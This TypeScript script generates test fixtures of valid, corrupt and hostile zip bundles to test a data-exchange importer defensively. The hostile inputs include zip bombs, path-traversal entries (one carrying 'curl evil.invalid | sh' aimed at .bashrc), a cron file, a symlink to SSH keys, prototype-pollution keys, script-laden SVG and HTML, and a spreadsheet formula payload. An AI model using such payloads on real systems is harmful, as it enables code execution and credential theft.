/**
 * Writes the bundle fixtures in test/fixtures/bundles/: a few valid bundles and one file per way a
 * bundle can be broken or hostile. Run with `npx tsx scripts/make-bundle-fixtures.ts`; the output is
 * reproducible (fixed ids, times and seeded randomness), so re-running it changes no bytes unless
 * this script or the format changed. The files are committed; the tests read them, never this script.
 *
 * Hostile zips are assembled here byte by byte (rawZip), independently of the writer under test, so
 * they can lie about sizes, repeat names, overlap entries and use paths no writer should produce.
 * The passphrase of the encrypted fixtures is in passphrase.txt (test data, not a secret).
 */
import { mkdirSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { deflateRawSync } from 'node:zlib';
import { formatHlc } from '../src/core/clock/hlc';
import { ratingId } from '../src/core/assessment/ratingSchema';
import type { Change } from '../src/core/merge/change';
import { mergeChangeSets } from '../src/core/merge/mergeChanges';
import { versionVector } from '../src/core/merge/versionVector';
import { crc32 } from '../src/exchange/bundle/crc32';
import { deriveBundleKey } from '../src/exchange/bundle/encryption';
import { blobPath, changesPath, type BundleManifest } from '../src/exchange/bundle/format';
import { encodeChanges } from '../src/exchange/bundle/ndjson';
import { writeBundle, type WriteBundleInput } from '../src/exchange/bundle/writeBundle';
import { sha256Hex } from '../src/exchange/bundle/bytes';
import {
  ASSESSMENT_ID,
  ASSESSOR_ID,
  ATTACHMENT_ID,
  ATTACHMENT_BYTES,
  BUNDLE_ID,
  NODE_A,
  NODE_B,
  OBSERVATION_ID,
  OTHER_ASSESSMENT_ID,
  T0,
  recordChanges,
  sampleChanges,
  sampleInput,
  stamper,
} from '../test/integration/support/bundleTestKit';

const OUT = 'test/fixtures/bundles';
const SVG_INSTITUTION_ID = '01900000-0000-7000-8000-000000000010';
const SVG_INTERVIEW_ID = '01900000-0000-7000-8000-000000000011';
const SVG_ATTACHMENT_ID = '01900000-0000-7000-8000-000000000012';
/** Script three ways (a script element, an onload handler, a javascript: link); each leaves a mark if it ever runs. */
const HOSTILE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="80" onload="document.title='PWNED-onload';indexedDB.open('pwned-by-svg-onload')">
<script>document.title='PWNED';indexedDB.open('pwned-by-svg');try{localStorage.setItem('pwned-by-svg','1')}catch(e){}</script>
<a xlink:href="javascript:document.title='PWNED-link'"><rect width="120" height="80" fill="#0b3a5b"/></a>
</svg>
`;
export const FIXTURE_PASSPHRASE = 'Yerevan, rainy Tuesday: 11 interviews';
/** Salt shared by every encrypted fixture, so a test derives the key once (PBKDF2 costs ~0.5 s). */
const FIXTURE_SALT = new Uint8Array(16).map((_, i) => 0xa0 + i);

function seeded(seed: number) {
  let state = seed >>> 0 || 1;
  return (n: number) => {
    const bytes = new Uint8Array(n);
    for (let i = 0; i < n; i++) {
      state ^= state << 13;
      state >>>= 0;
      state ^= state >>> 17;
      state ^= state << 5;
      state >>>= 0;
      bytes[i] = state & 0xff;
    }
    return bytes;
  };
}

// ——— a raw zip builder that will write whatever it is told ———

interface RawEntry {
  readonly name: string;
  readonly data: Uint8Array;
  readonly method?: 'store' | 'deflate';
  /** Lie about the uncompressed size in both headers. */
  readonly declaredSize?: number;
  readonly flags?: number;
  /** Point the central record at another entry's local header (overlap). */
  readonly sameLocalAs?: number;
  /** Central "version made by" (high byte: host system, 3 = Unix) and external attributes. */
  readonly madeBy?: number;
  readonly externalAttributes?: number;
  /** Bytes written after the entry's (compressed) data: counted in its size, or not. */
  readonly trailing?: Uint8Array;
  readonly trailingCounted?: boolean;
}

function rawZip(entries: readonly RawEntry[]): Uint8Array {
  const parts: Uint8Array[] = [];
  const central: Uint8Array[] = [];
  const offsets: number[] = [];
  let offset = 0;
  entries.forEach((entry, index) => {
    const name = new TextEncoder().encode(entry.name);
    const method = entry.method === 'deflate' ? 8 : 0;
    const deflated = method === 8 ? new Uint8Array(deflateRawSync(entry.data)) : entry.data;
    // Trailing bytes counted in the compressed size hide behind the end of the DEFLATE stream;
    // uncounted ones sit in a gap between entries.
    const body = entry.trailing !== undefined && entry.trailingCounted === true ? concat([deflated, entry.trailing]) : deflated;
    const gap = entry.trailing !== undefined && entry.trailingCounted !== true ? entry.trailing : new Uint8Array(0);
    const crc = crc32(entry.data);
    const size = entry.declaredSize ?? entry.data.length;
    const flags = (entry.flags ?? 0) | 0x0800;
    const localOffset = entry.sameLocalAs === undefined ? offset : offsets[entry.sameLocalAs]!;
    if (entry.sameLocalAs === undefined) {
      const local = new Uint8Array(30 + name.length);
      const v = new DataView(local.buffer);
      v.setUint32(0, 0x04034b50, true);
      v.setUint16(4, 20, true);
      v.setUint16(6, flags, true);
      v.setUint16(8, method, true);
      v.setUint16(12, 0x21, true);
      v.setUint32(14, crc, true);
      v.setUint32(18, body.length, true);
      v.setUint32(22, size, true);
      v.setUint16(26, name.length, true);
      local.set(name, 30);
      parts.push(local, body, gap);
      offsets[index] = offset;
      offset += local.length + body.length + gap.length;
    } else offsets[index] = localOffset;
    const header = new Uint8Array(46 + name.length);
    const v = new DataView(header.buffer);
    v.setUint32(0, 0x02014b50, true);
    v.setUint16(4, entry.madeBy ?? 20, true);
    v.setUint16(6, 20, true);
    v.setUint16(8, flags, true);
    v.setUint16(10, method, true);
    v.setUint16(14, 0x21, true);
    v.setUint32(38, entry.externalAttributes ?? 0, true);
    v.setUint32(16, crc, true);
    v.setUint32(20, body.length, true);
    v.setUint32(24, size, true);
    v.setUint16(28, name.length, true);
    v.setUint32(42, localOffset, true);
    header.set(name, 46);
    central.push(header);
  });
  const directoryBytes = central.reduce((s, c) => s + c.length, 0);
  const end = new Uint8Array(22);
  const v = new DataView(end.buffer);
  v.setUint32(0, 0x06054b50, true);
  v.setUint16(8, entries.length, true);
  v.setUint16(10, entries.length, true);
  v.setUint32(12, directoryBytes, true);
  v.setUint32(16, offset, true);
  return concat([...parts, ...central, end]);
}

function concat(parts: readonly Uint8Array[]): Uint8Array {
  const out = new Uint8Array(parts.reduce((s, p) => s + p.length, 0));
  let at = 0;
  for (const p of parts) {
    out.set(p, at);
    at += p.length;
  }
  return out;
}

const text = (s: string) => new TextEncoder().encode(s);
const json = (value: unknown) => text(`${JSON.stringify(value, null, 2)}\n`);

// ——— bundles with hand-made content but valid structure ———

interface Parts {
  /** NDJSON text of changes/000001.ndjson (valid or not). */
  readonly ndjson: string;
  readonly lines: number;
  readonly blob: Uint8Array;
  readonly blobSha: string;
  readonly manifest: BundleManifest;
}

async function partsOf(changes: readonly Change[], ndjson?: string): Promise<Parts> {
  const blobSha = await sha256Hex(ATTACHMENT_BYTES);
  const content = ndjson ?? new TextDecoder().decode(encodeChanges(changes));
  const lines = content.split('\n').filter((l) => l !== '').length;
  const ndjsonBytes = text(content);
  const manifest: BundleManifest = {
    format: 'mmdma-bundle',
    formatVersion: 1,
    schemaVersion: 1,
    appVersion: '0.1.0',
    bundleId: BUNDLE_ID,
    createdAt: '2022-10-03T18:00:00.000Z',
    createdBy: { kind: 'device', node: NODE_A, assessor: 'Anna Petrosyan', assessorId: ASSESSOR_ID },
    assessment: { id: ASSESSMENT_ID, title: 'MMDMA Armenia 2022' },
    framework: { id: 'mmdma', version: '1.0.0' },
    versionVector: versionVector(changes),
    since: null,
    includesAttachments: true,
    blobsHeld: [blobSha],
    counts: { changes: lines, blobs: 1, blobBytes: ATTACHMENT_BYTES.length },
    files: [
      { kind: 'changes', path: changesPath(1), sha256: await sha256Hex(ndjsonBytes), bytes: ndjsonBytes.length, changes: lines },
      { kind: 'blob', path: blobPath(blobSha), sha256: blobSha, bytes: ATTACHMENT_BYTES.length, mediaType: 'application/pdf' },
    ],
  };
  return { ndjson: content, lines, blob: ATTACHMENT_BYTES, blobSha, manifest };
}

function zipOf(parts: Parts, options: { manifest?: unknown; blob?: Uint8Array; withoutManifest?: boolean; extra?: RawEntry[] } = {}): Uint8Array {
  return rawZip([
    { name: changesPath(1), data: text(parts.ndjson), method: 'deflate' },
    { name: blobPath(parts.blobSha), data: options.blob ?? parts.blob },
    ...(options.extra ?? []),
    ...(options.withoutManifest ? [] : [{ name: 'manifest.json', data: json(options.manifest ?? parts.manifest), method: 'deflate' as const }]),
  ]);
}

async function main() {
  mkdirSync(OUT, { recursive: true });
  for (const name of readdirSync(OUT)) if (name.endsWith('.mmdma.zip')) rmSync(join(OUT, name));
  const files = new Map<string, Uint8Array>();
  const write = async (input: WriteBundleInput, options: Parameters<typeof writeBundle>[1] = {}) => {
    const written = await writeBundle(input, options);
    if (!written.ok) throw new Error(written.error.message);
    return new Uint8Array(await written.value.blob!.arrayBuffer());
  };

  const blobSha = await sha256Hex(ATTACHMENT_BYTES);
  const aChanges = sampleChanges(NODE_A, { attachmentSha: blobSha });
  const valid = await write(await sampleInput());
  files.set('valid.mmdma.zip', valid);

  // Device B received A's work, rated and corrected the note in the evening: a full export of B.
  const stampB = stamper(NODE_B, T0 + 3_600_000);
  const bOwn = [
    stampB('observation', OBSERVATION_ID, 'text', 'NSS: border data goes to EKENG on paper, weekly (corrected after the call).'),
    ...recordChanges(stampB, 'rating', ratingId(ASSESSMENT_ID, '6-5-2-a', 'central', ASSESSOR_ID), {
      assessmentId: ASSESSMENT_ID,
      assessorId: ASSESSOR_ID,
      indicatorId: '6-5-2-a',
      trackId: 'central',
      level: 'established',
      rationale: 'Central government side is mandatory and in use.',
      evidenceIds: [],
      deleted: false,
    }),
  ];
  const bChanges = mergeChangeSets(aChanges, bOwn);
  files.set(
    'valid-b.mmdma.zip',
    await write(
      await sampleInput({
        bundleId: '01900000-0000-7000-8000-0000000000b2',
        createdAt: '2022-10-03T19:00:00.000Z',
        createdBy: { kind: 'device', node: NODE_B, assessor: 'Aram Grigoryan', assessorId: null },
        changes: bChanges,
        versionVector: versionVector(bChanges),
      }),
    ),
  );

  // Script and HTML in the notes, and a spreadsheet formula in a rationale: valid data, to be kept
  // as text and shown inert.
  const hostileText = '<script>alert("notes")</script><img src=x onerror="alert(1)"> Ministry said: <b>no</b> & "maybe"';
  const stampH = stamper(NODE_A, T0 + 7_200_000);
  const htmlChanges = mergeChangeSets(sampleChanges(NODE_A, { attachmentSha: blobSha, note: hostileText }), [
    stampH('rating', ratingId(ASSESSMENT_ID, '6-5-2-a', 'migration', ASSESSOR_ID), 'rationale', '=HYPERLINK("http://example.invalid/?"&A1,"click")'),
  ]);
  files.set('html-notes.mmdma.zip', await write(await sampleInput({ changes: htmlChanges, versionVector: versionVector(htmlChanges) })));

  // Encrypted: one key (fixed salt) for all encrypted fixtures; 4 KiB chunks so entries have several.
  const key = await deriveBundleKey(FIXTURE_PASSPHRASE, { salt: FIXTURE_SALT });
  const bigAttachment = seeded(7)(10_000);
  const bigSha = await sha256Hex(bigAttachment);
  const encInput = await sampleInput({
    blobs: [
      { sha256: blobSha, mediaType: 'application/pdf', bytes: ATTACHMENT_BYTES.length, read: async () => ATTACHMENT_BYTES },
      { sha256: bigSha, mediaType: 'image/jpeg', bytes: bigAttachment.length, read: async () => bigAttachment },
    ],
    blobsHeld: [blobSha, bigSha],
  });
  const encrypted = await write(encInput, { encryption: { key }, chunkBytes: 4096, randomBytes: seeded(42) });
  files.set('encrypted.mmdma.zip', encrypted);
  files.set('encrypted-tampered.mmdma.zip', await tamperEncrypted(encrypted, 'flip'));
  files.set('encrypted-swapped-entries.mmdma.zip', await tamperEncrypted(encrypted, 'swap-entries'));
  files.set('encrypted-reordered-chunks.mmdma.zip', await tamperEncrypted(encrypted, 'reorder-chunks'));
  files.set('encrypted-truncated-chunks.mmdma.zip', await tamperEncrypted(encrypted, 'drop-last-chunk'));

  // ——— broken files ———
  files.set('empty.mmdma.zip', new Uint8Array(0));
  files.set('not-a-zip.mmdma.zip', text('Minutes of the meeting with the Migration Service, 4 October 2022.\nNot a zip file.\n'));
  files.set('truncated.mmdma.zip', valid.subarray(0, Math.floor(valid.length / 2)));

  const parts = await partsOf(aChanges);
  const alteredBlob = ATTACHMENT_BYTES.slice();
  alteredBlob[5] = alteredBlob[5]! ^ 0x20;
  files.set('checksum-mismatch.mmdma.zip', zipOf(parts, { blob: alteredBlob }));
  files.set('missing-manifest.mmdma.zip', zipOf(parts, { withoutManifest: true }));
  files.set('unknown-format.mmdma.zip', zipOf(parts, { manifest: { ...parts.manifest, format: 'some-other-tool' } }));
  files.set('newer-format.mmdma.zip', zipOf(parts, { manifest: { ...parts.manifest, formatVersion: 2, appVersion: '3.0.0', newThing: {} } }));
  // Readable, but made by a newer app: imported, with a preview that asks to update.
  files.set('newer-app.mmdma.zip', zipOf(parts, { manifest: { ...parts.manifest, appVersion: '0.9.0' } }));
  files.set('newer-schema.mmdma.zip', zipOf(parts, { manifest: { ...parts.manifest, schemaVersion: 2, appVersion: '2.1.0' } }));
  files.set('invalid-manifest.mmdma.zip', zipOf(parts, { manifest: { ...parts.manifest, bundleId: 'not-a-uuid', counts: 'many' } }));
  files.set('unlisted-entry.mmdma.zip', zipOf(parts, { extra: [{ name: 'blobs/readme.txt', data: text('surprise') }] }));

  // A 10 MiB entry of zeros deflates to ~10 KB: a 1,000× ratio, refused before inflating.
  const zeros = new Uint8Array(10 * 1024 * 1024);
  files.set('zip-bomb-ratio.mmdma.zip', zipOf(parts, { extra: [{ name: 'changes/000002.ndjson', data: zeros, method: 'deflate' }] }));
  // The header says 60,000 bytes (below the ratio check) but the data inflates to 2 MiB.
  const liar = new Uint8Array(2 * 1024 * 1024).fill(0x20);
  const lieParts = await partsOf(aChanges);
  const lieManifest = {
    ...lieParts.manifest,
    files: [
      ...lieParts.manifest.files.map((f) => (f.kind === 'changes' ? { ...f, path: changesPath(2) } : f)),
    ],
  };
  files.set(
    'zip-bomb-size-lie.mmdma.zip',
    rawZip([
      { name: changesPath(2), data: liar, method: 'deflate', declaredSize: lieParts.manifest.files[0]!.bytes },
      { name: blobPath(lieParts.blobSha), data: lieParts.blob },
      { name: 'manifest.json', data: json(lieManifest), method: 'deflate' },
    ]),
  );
  // Two central records pointing at one local header (Fifield's overlapping-entries bomb).
  files.set(
    'overlapping-entries.mmdma.zip',
    rawZip([
      { name: changesPath(1), data: text(parts.ndjson), method: 'deflate' },
      { name: changesPath(2), data: text(parts.ndjson), method: 'deflate', sameLocalAs: 0 },
      { name: 'manifest.json', data: json(parts.manifest), method: 'deflate' },
    ]),
  );
  // Declares 600 MiB for one entry (the limit is 512 MiB); the data itself is tiny.
  files.set('oversize-entry.mmdma.zip', zipOf(parts, { extra: [{ name: 'blobs/huge', data: text('x'.repeat(1000)), method: 'deflate', declaredSize: 600 * 1024 * 1024 }] }));
  // Thirty extra 1 KB entries: over a limit of 20 entries, or of 10 KB in total (tests set the limits).
  files.set(
    'many-entries.mmdma.zip',
    zipOf(parts, { extra: Array.from({ length: 30 }, (_, i) => ({ name: `blobs/extra-${String(i).padStart(2, '0')}`, data: seeded(100 + i)(1_000) })) }),
  );

  files.set('path-traversal.mmdma.zip', zipOf(parts, { extra: [{ name: '../../.bashrc', data: text('curl evil.invalid | sh\n') }] }));
  files.set('absolute-path.mmdma.zip', zipOf(parts, { extra: [{ name: '/etc/cron.d/mmdma', data: text('* * * * * root true\n') }] }));
  files.set('backslash-path.mmdma.zip', zipOf(parts, { extra: [{ name: 'blobs\\..\\..\\evil.exe', data: text('MZ') }] }));
  files.set('drive-letter-path.mmdma.zip', zipOf(parts, { extra: [{ name: 'C:/Users/Public/evil.lnk', data: text('x') }] }));
  files.set('duplicate-entry.mmdma.zip', zipOf(parts, { extra: [{ name: 'manifest.json', data: json({ ...parts.manifest, assessment: { id: OTHER_ASSESSMENT_ID, title: 'Shadow' } }), method: 'deflate' }] }));
  files.set('duplicate-case.mmdma.zip', zipOf(parts, { extra: [{ name: 'MANIFEST.JSON', data: json(parts.manifest), method: 'deflate' }] }));
  files.set('zip-encryption.mmdma.zip', zipOf(parts, { extra: [{ name: 'blobs/locked', data: text('xxxx'), flags: 0x0001 }] }));

  const lines = parts.ndjson.split('\n');
  const badHlc = [...lines];
  badHlc[3] = badHlc[3]!.replace(/"hlc":"[^"]+"/, '"hlc":"yesterday"');
  files.set('invalid-changes.mmdma.zip', zipOf(await partsOf(aChanges, badHlc.join('\n'))));
  const notJson = [...lines];
  notJson[5] = '{"hlc": "000001664787600006-0000-a1a1a1a1a1a1a1a1", ';
  files.set('invalid-json-line.mmdma.zip', zipOf(await partsOf(aChanges, notJson.join('\n'))));
  // `__proto__` written with escapes, inside a value: JSON.parse decodes it into an own key.
  const proto = [...lines];
  proto[7] = proto[7]!.replace(/"value":(.*)\}$/, '"value":{"\\u005f\\u005fproto\\u005f\\u005f":{"isAdmin":true},"text":$1}}');
  files.set('proto-key.mmdma.zip', zipOf(await partsOf(aChanges, proto.join('\n'))));
  const protoTop = [...lines];
  protoTop[2] = protoTop[2]!.replace(/^\{/, '{"__proto__":{"polluted":true},');
  files.set('proto-key-top.mmdma.zip', zipOf(await partsOf(aChanges, protoTop.join('\n'))));

  const stampX = stamper(NODE_A, T0 + 10_000);
  const foreign = [...aChanges, ...recordChanges(stampX, 'observation', '01900000-0000-7000-8000-0000000000f1', { assessmentId: OTHER_ASSESSMENT_ID, text: 'planted in another assessment' })];
  files.set('out-of-scope.mmdma.zip', zipOf(await partsOf(foreign)));

  const v2 = aChanges.map((c) => (c.table === 'assessment' && c.field === 'frameworkVersion' ? { ...c, value: '2.0.0' } : c));
  const v2Parts = await partsOf(v2);
  files.set('framework-mismatch.mmdma.zip', zipOf(v2Parts, { manifest: { ...v2Parts.manifest, framework: { id: 'mmdma', version: '2.0.0' } } }));
  const v11 = aChanges.map((c) => (c.table === 'assessment' && c.field === 'frameworkVersion' ? { ...c, value: '1.1.0' } : c));
  const v11Parts = await partsOf(v11);
  files.set('framework-minor.mmdma.zip', zipOf(v11Parts, { manifest: { ...v11Parts.manifest, framework: { id: 'mmdma', version: '1.1.0' } } }));

  // ——— issue 8: a poisoned clock, a strict zip, bounded memory ———

  // A device whose clock ran to the year 33658 overwrote the note: refused, whoever reads it.
  const FUTURE_MS = 999_999_999_999_000;
  const poisoned = [...aChanges, { hlc: formatHlc({ wallMs: FUTURE_MS, counter: 0, nodeId: NODE_B }), node: NODE_B, table: 'observation' as const, id: OBSERVATION_ID, field: 'text', value: 'overwritten from the future' }];
  const poisonedParts = await partsOf(poisoned);
  files.set('clock-ahead.mmdma.zip', zipOf(poisonedParts));
  // Honest changes, but a version vector that claims the future (a peer would then skip real changes).
  files.set(
    'clock-ahead-vector.mmdma.zip',
    zipOf(parts, { manifest: { ...parts.manifest, versionVector: { ...parts.manifest.versionVector, [NODE_A]: formatHlc({ wallMs: Date.UTC(2031, 0, 1), counter: 0, nodeId: NODE_A }) } } }),
  );

  // Bytes after the end of a DEFLATE stream (counted in the entry's size): Node ignores them, browsers refuse them.
  const hiddenHeader = rawZip([{ name: 'changes/000009.ndjson', data: text('{"hidden":true}\n') }]).subarray(0, 60);
  files.set(
    'deflate-trailing-bytes.mmdma.zip',
    rawZip([
      { name: changesPath(1), data: text(parts.ndjson), method: 'deflate', trailing: hiddenHeader, trailingCounted: true },
      { name: blobPath(parts.blobSha), data: parts.blob },
      { name: 'manifest.json', data: json(parts.manifest), method: 'deflate' },
    ]),
  );
  // A gap between entries holding another local header that a streaming unzip would show.
  files.set(
    'gap-between-entries.mmdma.zip',
    rawZip([
      { name: changesPath(1), data: text(parts.ndjson), method: 'deflate', trailing: hiddenHeader },
      { name: blobPath(parts.blobSha), data: parts.blob },
      { name: 'manifest.json', data: json(parts.manifest), method: 'deflate' },
    ]),
  );
  // An entry an unzip tool would restore as a symbolic link to the user's SSH keys.
  files.set('symlink-entry.mmdma.zip', zipOf(parts, { extra: [{ name: 'blobs/keys', data: text('../../.ssh/id_ed25519'), madeBy: 0x0314, externalAttributes: (0o120777 << 16) >>> 0 }] }));
  // The manifest names its assessment twice: JSON.parse keeps the second, other parsers the first.
  const manifestText = JSON.stringify(parts.manifest, null, 2);
  files.set(
    'duplicate-json-key.mmdma.zip',
    rawZip([
      { name: changesPath(1), data: text(parts.ndjson), method: 'deflate' },
      { name: blobPath(parts.blobSha), data: parts.blob },
      { name: 'manifest.json', data: text(manifestText.replace('"assessment": {', `"assessment": { "id": "${OTHER_ASSESSMENT_ID}", "title": "Shadow" },\n  "assessment": {`)), method: 'deflate' },
    ]),
  );
  // A change line with its value twice.
  const dupLines = [...lines];
  dupLines[6] = dupLines[6]!.replace(/\}$/, ',"value":"the other reader\'s value"}');
  files.set('duplicate-key-change.mmdma.zip', zipOf(await partsOf(aChanges, dupLines.join('\n'))));
  // A version vector of 12 devices (the test lowers the limit; the real one is 10,000).
  const manyNodes: Record<string, string> = { ...parts.manifest.versionVector };
  for (let i = 0; i < 12; i++) {
    const node = (0xc000000000000000n + BigInt(i)).toString(16);
    manyNodes[node] = formatHlc({ wallMs: T0, counter: 0, nodeId: node });
  }
  files.set('vector-many-nodes.mmdma.zip', zipOf(parts, { manifest: { ...parts.manifest, versionVector: manyNodes } }));
  // An attachment deflated, where the format says stored: it would be inflated whole to hash it.
  files.set(
    'compressed-attachment.mmdma.zip',
    rawZip([
      { name: changesPath(1), data: text(parts.ndjson), method: 'deflate' },
      { name: blobPath(parts.blobSha), data: parts.blob, method: 'deflate' },
      { name: 'manifest.json', data: json(parts.manifest), method: 'deflate' },
    ]),
  );
  // Forty entries of 60 KiB of zeros, each under the per-entry ratio check, 2.4 MB together from 4 KB.
  files.set(
    'many-small-bombs.mmdma.zip',
    zipOf(parts, { extra: Array.from({ length: 40 }, (_, i) => ({ name: `changes/${String(100 + i).padStart(6, '0')}.ndjson`, data: new Uint8Array(60 * 1024), method: 'deflate' as const })) }),
  );
  // One change carrying a 6,000-character note (the test lowers the 1 MiB limit to 4 KiB, which
  // keeps the file small: a real 1 MiB value that passes the ratio checks would be a large fixture).
  const bigValue = [...aChanges.filter((c) => !(c.table === 'observation' && c.field === 'text'))];
  const noteStamp = stamper(NODE_A, T0 + 20_000);
  bigValue.push(noteStamp('observation', OBSERVATION_ID, 'text', 'Transcript of the interview. '.repeat(207)));
  files.set('oversize-change.mmdma.zip', zipOf(await partsOf(bigValue)));
  // A change chunk of 9 MiB (the limit is 8 MiB): lines of text mixed with noise so it stays under the ratio check.
  const filler = seeded(11)(4_096);
  const bigChunk = new Uint8Array(9 * 1024 * 1024);
  for (let at = 0; at < bigChunk.length; at += 65_536) bigChunk.set(filler.subarray(0, Math.min(filler.length, bigChunk.length - at)), at);
  const bigChunkManifest = {
    ...parts.manifest,
    counts: { ...parts.manifest.counts, changes: parts.manifest.counts.changes + 1 },
    files: [...parts.manifest.files, { kind: 'changes', path: changesPath(2), sha256: await sha256Hex(bigChunk), bytes: bigChunk.length, changes: 1 }],
  };
  files.set('oversize-change-chunk.mmdma.zip', zipOf(parts, { manifest: bigChunkManifest, extra: [{ name: changesPath(2), data: bigChunk, method: 'deflate' }] }));

  // A valid bundle whose interview note carries an SVG "photo" with script in it: imported as data,
  // it must never run (the browser test opens the interview screen and tries every way to open it).
  const svgStamp = stamper(NODE_A, T0 + 30_000);
  const svgBytes = text(HOSTILE_SVG);
  const svgSha = await sha256Hex(svgBytes);
  const svgChanges = mergeChangeSets(aChanges, [
    ...recordChanges(svgStamp, 'institution', SVG_INSTITUTION_ID, { assessmentId: ASSESSMENT_ID, name: 'Migration Service', acronym: 'MS', kind: 'agency', relevantPillarIds: [], deleted: false }),
    ...recordChanges(svgStamp, 'interview', SVG_INTERVIEW_ID, {
      assessmentId: ASSESSMENT_ID,
      institutionId: SVG_INSTITUTION_ID,
      date: '2022-10-04',
      interviewerIds: [ASSESSOR_ID],
      status: 'done',
      consent: { given: true, scope: 'notes' },
      notes: '',
      deleted: false,
    }),
    svgStamp('observation', OBSERVATION_ID, 'interviewId', SVG_INTERVIEW_ID),
    ...recordChanges(svgStamp, 'attachment', SVG_ATTACHMENT_ID, {
      assessmentId: ASSESSMENT_ID,
      sha256: svgSha,
      mediaType: 'image/svg+xml',
      bytes: svgBytes.length,
      fileName: 'org-chart.svg',
      caption: 'Organisation chart',
      observationId: OBSERVATION_ID,
      deleted: false,
    }),
    svgStamp('observation', OBSERVATION_ID, 'attachmentIds', [ATTACHMENT_ID, SVG_ATTACHMENT_ID]),
  ]);
  files.set(
    'hostile-svg.mmdma.zip',
    await write(
      await sampleInput({
        bundleId: '01900000-0000-7000-8000-0000000000b5',
        changes: svgChanges,
        versionVector: versionVector(svgChanges),
        blobs: [
          { sha256: blobSha, mediaType: 'application/pdf', bytes: ATTACHMENT_BYTES.length, read: async () => ATTACHMENT_BYTES },
          { sha256: svgSha, mediaType: 'image/svg+xml', bytes: svgBytes.length, read: async () => svgBytes },
        ],
        blobsHeld: [blobSha, svgSha],
      }),
    ),
  );

  for (const [name, bytes] of files) writeFileSync(join(OUT, name), bytes);
  writeFileSync(join(OUT, 'passphrase.txt'), `${FIXTURE_PASSPHRASE}\n`);
  console.log(`wrote ${files.size} fixtures to ${OUT}`);
}

/** Alters an encrypted bundle after the fact, keeping the zip itself well-formed. */
async function tamperEncrypted(bundle: Uint8Array, how: 'flip' | 'swap-entries' | 'reorder-chunks' | 'drop-last-chunk'): Promise<Uint8Array> {
  const { default: JSZip } = await import('jszip');
  const zip = await JSZip.loadAsync(bundle);
  const entries = new Map<string, Uint8Array>();
  for (const name of Object.keys(zip.files).sort()) if (!zip.files[name]!.dir) entries.set(name, await zip.files[name]!.async('uint8array'));
  const chunk = 4096 + 28;
  const target = 'enc/000002'; // the 10,000-byte attachment: three chunks
  const data = entries.get(target)!;
  if (how === 'flip') {
    const copy = data.slice();
    copy[100] = copy[100]! ^ 0x01;
    entries.set(target, copy);
  } else if (how === 'swap-entries') {
    const other = entries.get('enc/000001')!;
    entries.set('enc/000001', data);
    entries.set(target, other);
  } else if (how === 'reorder-chunks') {
    entries.set(target, concat([data.subarray(chunk, 2 * chunk), data.subarray(0, chunk), data.subarray(2 * chunk)]));
  } else {
    entries.set(target, data.subarray(0, 2 * chunk));
  }
  return rawZip([...entries].map(([name, content]) => ({ name, data: content, method: name === 'manifest.json' ? 'deflate' : 'store' })));
}

await main();
